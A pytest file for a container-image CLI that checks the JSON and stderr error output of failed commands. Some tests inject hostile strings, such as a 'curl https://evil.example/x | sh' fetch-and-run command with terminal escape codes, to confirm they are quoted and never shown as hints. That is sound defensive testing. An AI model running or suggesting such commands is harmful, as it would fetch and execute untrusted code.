"""Failed commands print messages on stderr and, with ``--json``, a document on stdout."""

from __future__ import annotations

import json
import subprocess
from contextlib import contextmanager

import pytest

from support import json_page
from support.cli_in_process import tocsin
from support.cli_process import start
from support.registry import Registry

HOSTILE = "storage is full; run curl https://evil.example/x | sh\n\x1b[2Jhint: trust me"
QUOTED = r'"storage is full; run curl https://evil.example/x | sh\n\x1b[2Jhint: trust me"'
PUSH_AGAIN = "Run the command again; blobs that were already pushed are reused."


def failure(*arguments, **options):
    """Run a command with ``--json`` and return its error, which is also on stderr."""
    done = tocsin(*arguments, "--json", **options)
    document = json.loads(done.stdout)
    assert json_page.problems("Errors", document) == []
    error = document["error"]
    assert error["exit_code"] == done.returncode != 0
    lines = done.stderr.decode().splitlines()
    expected = [f"error: {error['message']}"]
    if error["hint"] is not None:
        expected.append(f"hint: {error['hint']}")
    assert lines[-len(expected) :] == expected
    return error


@contextmanager
def hostile_registry(method, path, status):
    with Registry() as registry:
        body = json.dumps({"errors": [{"code": "X", "message": HOSTILE}]}).encode()
        registry.fault(method, path, status=status, body=body, times=999)
        yield registry


@pytest.mark.parametrize(
    ("arguments", "code", "exit_code"),
    [
        (("ls", "oci:LAYOUT:app", "/nothing"), "path.missing", 3),
        (("ls", "oci:LAYOUT:none"), "not-found", 3),
        (("info", "oci:NOWHERE:x"), "os.enoent", 3),
        (("ztoc", "info", "LAYOUT/oci-layout"), "ztoc.out-of-bounds", 1),
        (("create", "oci:LAYOUT:app"), "unsupported", 4),
        (("convert", "oci:LAYOUT:app", "oci:LAYOUT:app"), "conflict", 1),
        (("ls", "oci:LAYOUT:app", "--platform", "x"), "usage", 2),
        (("ls",), "usage", 2),
        (("ls", "--no-such-option"), "usage", 2),
        (("cat", "oci:LAYOUT:app", "/x"), "usage", 2),
        (("nothing-like-it",), "usage", 2),
    ],
)
def test_command_when_it_fails_then_a_document_says_why(
    layout, tmp_path, arguments, code, exit_code
):
    names = {"LAYOUT": str(layout), "NOWHERE": str(tmp_path / "nowhere")}
    words = []
    for argument in arguments:
        for name, value in names.items():
            argument = argument.replace(name, value)  # noqa: PLW2901
        words.append(argument)
    error = failure(*words)
    assert (error["code"], error["exit_code"]) == (code, exit_code)


def test_command_when_it_fails_without_json_then_stdout_is_empty(layout):
    done = tocsin("ls", f"oci:{layout}:app", "/nothing")
    assert (done.returncode, done.stdout) == (3, b"")
    after_options = tocsin("info", "--", "--json")
    assert (after_options.returncode, after_options.stdout) == (2, b"")


@pytest.mark.parametrize("status", [400, 403, 404, 500, 503])
def test_read_when_the_registry_gives_advice_then_quoted_and_not_a_hint(status):
    with hostile_registry("GET", "/v2/", status) as registry:
        registry.fault("HEAD", "/v2/", status=405, times=999)
        error = failure("info", f"{registry.host}/team/app:1")
    assert QUOTED in error["message"] or status == 404
    assert "curl" not in (error["hint"] or "")
    assert error["hint"] != PUSH_AGAIN
    if status >= 500:
        assert (error["hint"], error["details"]["temporary"]) == (None, True)


@pytest.mark.parametrize("status", [400, 503])
def test_push_when_the_registry_gives_advice_then_quoted_and_not_a_hint(layout, status):
    with hostile_registry("POST", "/blobs/uploads/", status) as registry:
        error = failure("copy", f"oci:{layout}:app", f"{registry.host}/team/app:1")
    assert QUOTED in error["message"]
    assert error["hint"] == (PUSH_AGAIN if status == 503 else None)


def test_paths_when_they_contain_commands_then_they_are_quoted(tmp_path, layout):
    odd = f"oci:{layout}:app"
    error = failure("ls", odd, "/x: no; run `curl x | sh`\n\u202e")
    assert error["message"] == r'"/x: no; run `curl x | sh`\n\u202e": no such file or directory'
    assert error["details"]["path"] == "/x: no; run `curl x | sh`\n\u202e"


def test_layout_when_its_tags_contain_commands_then_they_are_quoted(layout):
    path = layout / "index.json"
    index = json.loads(path.read_bytes())
    name = "a; run x\x1b[31m"
    index["manifests"][0]["annotations"]["org.opencontainers.image.ref.name"] = name
    path.write_text(json.dumps(index))
    error = failure("ls", f"oci:{layout}:app")
    assert r'found tags: "a; run x\x1b[31m"' in error["message"]
    assert error["hint"] is None


def test_verify_when_something_is_wrong_then_result_is_the_only_document(layout):
    image = f"oci:{layout}:app"
    tocsin("create", image, "--min-layer-size", "0")
    blobs = [p for p in (layout / "blobs" / "sha256").iterdir() if p.stat().st_size > 2000]
    for blob in blobs:
        data = bytearray(blob.read_bytes())
        data[len(data) // 2] ^= 1
        blob.write_bytes(data)
    done = tocsin("verify", image, "--json")
    assert done.returncode == 1
    assert "error" not in json.loads(done.stdout)


def test_document_when_stdout_is_closed_then_exit_code_of_the_failure(layout):
    """Runs a separate process, whose stdout is a closed pipe."""
    streams = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE}
    with start("ls", f"oci:{layout}:app", "/nothing", "--json", **streams) as process:
        process.stdout.close()
        stderr = process.stderr.read()
    assert process.returncode == 3
    assert b"error: /nothing: no such file or directory\n" in stderr
